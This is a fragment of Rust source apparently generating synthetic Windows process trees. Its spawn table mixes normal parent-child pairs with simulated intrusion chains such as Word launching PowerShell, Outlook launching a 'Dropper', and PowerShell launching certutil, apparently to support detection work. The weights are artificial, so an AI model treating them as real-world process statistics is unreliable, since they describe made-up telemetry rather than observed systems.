    s(Img::Explorer, Img::Putty, 3, ALL),
    s(Img::Explorer, Img::ProcExp, 2, ALL),
    s(Img::Explorer, Img::Mstsc, 5, ALL),
    s(Img::Explorer, Img::Mmc, 4, ALL),
    s(Img::Chrome, Img::SevenZip, 1, WS),
    s(Img::Svchost, Img::WmiPrvSe, 14, ALL),
    s(Img::Svchost, Img::TaskhostW, 10, NT10),
    s(Img::Svchost, Img::Taskeng, 10, W7),
    s(Img::Taskeng, Img::GoogleUpdate, 8, W7),
    s(Img::Svchost, Img::GoogleUpdate, 8, NT10),
    s(Img::GoogleUpdate, Img::GoogleUpdate, 4, ALL),
    s(Img::Svchost, Img::Backgroundtaskhost, 8, W10),
    s(Img::Svchost, Img::Rundll32, 6, ALL),
    s(Img::Svchost, Img::MpCmdRun, 4, NT10),
    s(Img::Svchost, Img::Wuauclt, 4, ALL),
    s(Img::Services, Img::Msiexec, 3, ALL),
    s(Img::Services, Img::Wusa, 2, ALL),
    s(Img::Services, Img::Svchost, 6, ALL),
    s(Img::Services, Img::Upgrade, 1, ALL),
    s(Img::SearchIndexer, Img::SearchProtocolHost, 30, WS),
    s(Img::SearchIndexer, Img::SearchFilterHost, 24, WS),
    s(Img::Svchost, Img::Consent, 3, WS),
    s(Img::Svchost, Img::WerFault, 3, ALL),
    s(Img::Winlogon, Img::LogonUI, 3, ALL),
    s(Img::W3wp, Img::Cmd, 1, SRV),
    s(Img::Sqlservr, Img::Cmd, 1, SRV),
    s(Img::Svchost, Img::Cmd, 3, SRV),
    s(Img::Svchost, Img::PowerShell, 3, SRV),
    s(Img::Winword, Img::PowerShell, 1, WS),
    s(Img::Excel, Img::Cmd, 1, WS),
    s(Img::Outlook, Img::Dropper, 1, WS),
    s(Img::Dropper, Img::Cmd, 2, WS),
    s(Img::Dropper, Img::Updater, 2, WS),
    s(Img::PowerShell, Img::Certutil, 1, ALL),
];

/// Children a process starts right away: a console host for every console program, a few
/// renderer and utility processes for a browser.
pub(crate) fn auto_children(img: Img) -> Option<(Img, u32, u32)> {
    match img {
        Img::Cmd | Img::PowerShell => Some((Img::Conhost, 1, 1)),
        Img::Chrome => Some((Img::ChromeRenderer, 3, 7)),
        _ => None,
    }
}

/// Whether an image row runs on `os` (by the release masks of [`BOOT`] and [`SPAWNS`]).
pub(crate) fn os_bit(os: super::Os) -> u8 {
    match os {
        super::Os::Win7 => W7,
        super::Os::Win10 => W10,
        super::Os::Server2016 => SRV,
    }
}
